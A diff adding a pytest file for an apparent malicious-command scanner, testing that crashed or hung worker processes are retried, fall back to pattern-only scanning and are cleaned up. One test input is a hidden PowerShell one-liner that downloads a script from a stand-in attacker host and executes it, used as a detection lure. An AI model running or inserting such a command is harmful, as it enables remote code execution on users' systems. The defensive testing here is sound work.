@@ -1,0 +1,176 @@
+"""`scan --jsonl` in worker processes: a crash costs one retry, not the batch.
+
+The real command (app/commands/scan.py) and real forked workers; the only test part is the
+engine's `analyze`, which in a worker (never in this process) segfaults or hangs on a marker.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import signal
+import time
+from collections.abc import Iterator
+from functools import partial
+from pathlib import Path
+
+import pytest
+
+from app.commands import scan
+from app.detection import Context, Engine, Level
+from app.detection.engine import INCOMPLETE_RULE
+from app.detection.pool import Pool, WorkerError
+from app.detection.worker import WorkerSpec
+from tests.app.test_cli import run_main
+from tests.conftest import STRICT
+
+LURE = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex"'
+HARMLESS = "echo hello world"
+ONCE = re.compile(r"SEGV-ONCE:(\S+)")
+
+
+@pytest.fixture
+def markers(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
+    """In a worker, a text with SEGV-ALWAYS / SEGV-ONCE:<flag file> / HANG-ALWAYS crashes or
+    hangs the process; this process reads every text normally."""
+    parent = os.getpid()
+    real = Engine.analyze
+
+    def analyze(self: Engine, text: str | bytes, context: Context | None = None) -> object:
+        if os.getpid() != parent and isinstance(text, str):
+            once = ONCE.search(text)
+            if "SEGV-ALWAYS" in text or (once and _first_time(Path(once.group(1)))):
+                os.kill(os.getpid(), signal.SIGSEGV)
+            if "HANG-ALWAYS" in text:
+                time.sleep(3600)
+        return real(self, text, context)
+
+    monkeypatch.setattr(Engine, "analyze", analyze)
+    yield
+
+
+def _first_time(path: Path) -> bool:
+    try:
+        path.touch(exist_ok=False)
+    except FileExistsError:
+        return False
+    return True
+
+
+def batch(tmp_path: Path, texts: list[str]) -> Path:
+    path = tmp_path / "batch.jsonl"
+    path.write_text("".join(json.dumps({"id": i, "text": t}) + "\n" for i, t in enumerate(texts)))
+    return path
+
+
+def scan_lines(
+    path: Path, capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
+) -> list[dict[str, object]]:
+    code, out, _err = run_main(["scan", "--jsonl", str(path)], capsys)
+    assert code == 0
+    return [json.loads(line) for line in out.splitlines()]
+
+
+def expected(engine: Engine, text: str) -> tuple[str, list[str]]:
+    verdict = engine.analyze(text)
+    return verdict.level.label, verdict.rule_ids
+
+
+def texts_with(marker: str, n: int = 40) -> list[str]:
+    return [f"{LURE} {marker}" if i == n // 2 else (LURE if i % 3 else HARMLESS) + f" #{i}"
+            for i in range(n)]  # fmt: skip
+
+
+def test_a_crash_in_the_middle_costs_that_line_one_retry_and_the_batch_is_whole(
+    markers: None,
+    engine: Engine,
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    flag = tmp_path / "crashed"
+    texts = texts_with(f"SEGV-ONCE:{flag}")
+    lines = scan_lines(batch(tmp_path, texts), capsys, caplog)
+    assert flag.exists()  # a worker really died on it
+    assert [r.levelname for r in caplog.records] == ["WARNING"]  # one crash, no fallback
+    assert [line["id"] for line in lines] == list(range(len(texts)))  # all, in input order
+    for line, text in zip(lines, texts, strict=True):
+        assert (line["level"], line["rules"]) == expected(engine, text)
+
+
+def test_a_line_the_workers_die_on_twice_is_read_with_the_patterns_only_never_clean(
+    markers: None,
+    engine: Engine,
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    texts = [HARMLESS, f"{HARMLESS} SEGV-ALWAYS", LURE, f"{LURE} SEGV-ALWAYS", HARMLESS]
+    lines = scan_lines(batch(tmp_path, texts), capsys, caplog)
+    assert [line["id"] for line in lines] == list(range(len(texts)))
+    for i in (1, 3):
+        assert Level.parse(str(lines[i]["level"])) >= Level.SUSPICIOUS
+        assert INCOMPLETE_RULE in lines[i]["rules"]  # type: ignore[operator]
+    assert lines[3]["level"] == "malicious"  # a lure is a lure with the patterns alone
+    for i in (0, 2, 4):
+        assert (lines[i]["level"], lines[i]["rules"]) == expected(engine, texts[i])
+    said = [r.getMessage() for r in caplog.records if r.levelname == "ERROR"]
+    assert said == [
+        f"item {i}: the full reading failed twice; it was read with the patterns only and "
+        "reported as not checked fully"
+        for i in (2, 4)
+    ]
+
+
+def pool(engine: Engine, **kwargs: object) -> tuple[Pool, list[int]]:
+    answer = partial(scan._batch_frame, default=Context(), escape=True)
+    patterns = Engine(strict=STRICT, interpreters=False)
+    started: list[int] = []
+    p = Pool(engine, WorkerSpec(strict=STRICT), answer, partial(answer, patterns), **kwargs)  # type: ignore[arg-type]
+    start = p._start
+
+    def recorded() -> object:
+        worker = start()
+        started.append(worker.process.pid)
+        return worker
+
+    p._start = recorded  # type: ignore[method-assign]
+    return p, started
+
+
+def lines_of(frames: list[bytes]) -> list[dict[str, object]]:
+    return [json.loads(f[1:]) for f in frames]
+
+
+def alive(pid: int) -> bool:
+    try:
+        with open(f"/proc/{pid}/stat") as f:
+            return f.read().split(")")[-1].split()[0] != "Z"
+    except FileNotFoundError:
+        return False
+
+
+def test_a_hung_worker_is_killed_at_the_deadline_and_no_worker_outlives_the_batch(
+    markers: None, engine: Engine
+) -> None:
+    p, started = pool(engine, workers=2, deadline=1.0)
+    texts = texts_with("HANG-ALWAYS", 10)
+    items = [json.dumps({"id": i, "text": t}) for i, t in enumerate(texts)]
+    out = lines_of(list(p.answers(items)))
+    assert [line["id"] for line in out] == list(range(10))
+    assert INCOMPLETE_RULE in out[5]["rules"]  # type: ignore[operator]
+    assert p.failures == 2 and p.fallbacks == 1
+    assert len(started) == 4  # two, and one in place of each hung one
+    assert not any(alive(pid) for pid in started)
+
+
+def test_a_bug_in_a_worker_is_raised_here(engine: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
+    def broken(self: Engine, text: object, context: object = None) -> object:
+        raise RuntimeError("a bug in the engine")
+
+    monkeypatch.setattr(Engine, "analyze", broken)
+    p, started = pool(engine, workers=2)
+    with pytest.raises(WorkerError, match="a bug in the engine"):
+        list(p.answers([json.dumps({"id": 1, "text": HARMLESS})]))
+    assert started and not any(alive(pid) for pid in started)
